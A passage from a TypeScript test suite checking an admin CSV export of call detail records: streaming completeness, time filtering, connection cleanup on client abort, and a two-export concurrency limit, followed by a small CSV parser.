    SELECT timestamptz '2026-11-01T00:00:00Z' + g * interval '1 second', 'passthru', 'bulk', 'bulk-' || g,
           '+91981' || lpad(g::text, 7, '0'), '0981' || lpad(g::text, 7, '0'), '+918047112233', '08047112233', 'incoming',
           jsonb_build_object('CallSid', 'bulk-' || g, 'CallFrom', '0981' || lpad(g::text, 7, '0')), 'answered', 200, '', 2.5, 1,
           'bulk-' || g
    FROM generate_series(1, ${ROWS}) AS g`);
  await app.listen({ port: 0, host: '127.0.0.1' });
  const base = `http://127.0.0.1:${(app.server.address() as AddressInfo).port}`;
  const headers = { authorization: `Bearer ${ADMIN_KEY}` };
  // Exports run on the admin API's pool; the callbacks' is checked too.
  const settled = () => [db.pool, db.adminPool].every((p) => p.totalCount === p.idleCount);
  const poolSettled = async () => {
    for (let i = 0; i < 100 && !settled(); i++) await new Promise((r) => setTimeout(r, 50));
    return settled();
  };

  t.test(`${ROWS.toLocaleString('en')} rows stream completely over a socket and the connection goes back to the pool`, async (t) => {
    const started = Date.now();
    const res = await fetch(`${base}/admin/cdrs.csv`, { headers });
    t.equal(res.status, 200);
    let lines = 0;
    let bytes = 0;
    let last = 0;
    for await (const chunk of res.body! as AsyncIterable<Uint8Array>) {
      bytes += chunk.length;
      for (const b of chunk) if (b === 10) lines++;
      last = chunk[chunk.length - 1]!;
    }
    t.equal(lines, ROWS + 1, 'header + one line per row');
    t.equal(last, 10, 'ends with a complete line');
    t.ok(Date.now() - started < 20_000, `${bytes} bytes in ${Date.now() - started} ms`);
    t.ok(await poolSettled(), 'no connection left checked out');
  });

  t.test('a time-filtered export of the large table holds exactly the rows in range', async (t) => {
    const from = encodeURIComponent('2026-11-01T01:00:01Z');
    const to = encodeURIComponent('2026-11-01T02:00:01Z');
    const res = await fetch(`${base}/admin/cdrs.csv?from=${from}&to=${to}&flow=bulk`, { headers });
    const text = await res.text();
    const rows = text.trimEnd().split('\n');
    t.equal(rows.length, 1 + 3600);
    t.match(rows[1], /^\d+,2026-11-01T02:00:00\.000Z,passthru,bulk,bulk-7200,/);
    t.match(rows[3600], /^\d+,2026-11-01T01:00:01\.000Z,passthru,bulk,bulk-3601,/);
  });

  t.test('a client that hangs up mid-download frees the database connection and stops the COPY', async (t) => {
    const controller = new AbortController();
    const res = await fetch(`${base}/admin/cdrs.csv`, { headers, signal: controller.signal });
    const reader = res.body!.getReader();
    const first = await reader.read();
    t.ok(first.value && first.value.length > 0, 'the download had started');
    controller.abort();
    await reader.cancel().catch(() => {});
    t.ok(await poolSettled(), 'the connection is no longer checked out');
    // Its own connection: a pooled one could be the very connection left mid-COPY.
    const observer = new pg.Client({ connectionString: db.url });
    await observer.connect();
    t.teardown(() => observer.end());
    let copies = 1;
    for (let i = 0; i < 100 && copies > 0; i++) {
      const { rows } = await observer.query<{ n: string }>(
        `SELECT count(*) AS n FROM pg_stat_activity WHERE datname = current_database() AND query LIKE 'COPY (SELECT%' AND state <> 'idle' AND pid <> pg_backend_pid()`,
      );
      copies = Number(rows[0]!.n);
      if (copies > 0) await new Promise((r) => setTimeout(r, 50));
    }
    t.equal(copies, 0, 'no COPY left running in Postgres');
    const again = await fetch(`${base}/admin/cdrs.csv?callSid=bulk-42`, { headers, signal: AbortSignal.timeout(5000) });
    t.equal((await again.text()).trimEnd().split('\n').length, 2, 'the next export works');
  });

  t.test('downloads nobody reads hold at most 2 database connections: callbacks, readiness and other exports go on', async (t) => {
    // Each export holds a pooled connection until its download ends. A client that stops reading
    // (a paused browser download, `curl … | less`) holds it for as long as it stays connected.
    const stalled: AbortController[] = [];
    t.teardown(() => {
      for (const c of stalled) c.abort();
    });
    const statuses: number[] = [];
    for (let i = 0; i < 12; i++) {
      const controller = new AbortController();
      stalled.push(controller);
      const res = await fetch(`${base}/admin/cdrs.csv`, { headers, signal: controller.signal });
      statuses.push(res.status);
      if (res.status !== 200) {
        t.equal(res.status, 429, 'a further export is refused while 2 run');
        t.match(await res.json(), { message: /2 CSV exports are running/ });
        t.ok(Number(res.headers.get('retry-after')) > 0, 'with Retry-After');
      }
    }
    t.same(statuses.slice(0, 2), [200, 200], 'two exports run at once');
    t.ok(
      statuses.slice(2).every((s) => s === 429),
      `the others are refused: ${statuses.join(',')}`,
    );
    const ready = await fetch(`${base}/readyz`, { signal: AbortSignal.timeout(5000) });
    t.equal(ready.status, 200, `readyz: ${await ready.text()}`);
    const callback = await fetch(`${base}/exotel/passthru/nope?CallSid=during-export&CallFrom=09812345678`, { signal: AbortSignal.timeout(5000) });
    t.equal(callback.status, 404, 'an unknown flow: answered with its CDR');
    t.equal(app.cdrWriter.spoolDepth, 0, 'the CDR was committed, not spooled');
    const list = await fetch(`${base}/admin/cdrs?callSid=during-export`, { headers, signal: AbortSignal.timeout(5000) });
    t.equal(list.status, 200);
    t.equal(((await list.json()) as { items: unknown[] }).items.length, 1, 'and it is in the list');
    for (const c of stalled) c.abort();
    t.ok(await poolSettled(), 'hanging up frees the connections');
    const after = await fetch(`${base}/admin/cdrs.csv?callSid=bulk-42`, { headers, signal: AbortSignal.timeout(5000) });
    t.equal(after.status, 200, 'once they are gone, an export runs again');
    await after.text();
  });
});

/** RFC 4180 reader, enough to check what Postgres wrote (it does not tell NULL from ""). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
    } else field += c;
  }
  if (field !== '' || row.length > 0) rows.push([...row, field]);
  return rows;
}
